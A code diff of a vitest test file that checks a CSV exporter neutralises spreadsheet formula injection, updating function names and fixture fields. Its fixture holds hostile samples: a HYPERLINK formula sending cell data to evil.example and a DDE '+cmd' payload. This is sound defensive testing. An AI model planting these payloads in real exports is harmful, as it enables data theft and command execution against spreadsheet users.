@@ -1,6 +1,6 @@
 import { describe, expect, it } from "vitest";
 import { neutraliseFormula } from "./neutralise-formula";
-import { toCsv, toRows, type ExportFigure } from "./serialise";
+import { figureRows, figuresCsv, type ExportFigure } from "./serialise";
 
 describe("CSV formula injection", () => {
   it.each([
@@ -27,7 +27,11 @@ describe("CSV formula injection", () => {
       baselineLabel: "Year ending June 2019",
       baselineValue: 52,
       latestValue: 46,
-      latestPeriod: '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
+      baselineStart: null,
+      baselineEnd: null,
+      periodStart: null,
+      periodEnd: null,
+      periodNote: '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
       source: "+cmd|' /C calc'!A0",
       noLocalData: false,
       noDataReason: null,
@@ -35,11 +39,12 @@ describe("CSV formula injection", () => {
       comparisonLabel: "@SUM(A1)",
       comparisonValue: null,
     };
-    const csv = toCsv(toRows([figure]));
+    const csv = figuresCsv(figureRows({ force: "=Force", quarter: "2021-22-Q3", edition: 1 }, [figure]));
     const [, row] = csv.trim().split("\r\n");
     expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Click"")"`);
     expect(row).toContain(`'+cmd|' /C calc'!A0`);
     expect(row).toContain(`'@SUM(A1)`);
+    expect(row!.startsWith("'=Force,2021-22-Q3,1,")).toBe(true);
     // The change (46 against 52) is the number -6, written as a number, not as text.
     expect(row).toMatch(/,-6,-11\.5,better,/);
   });
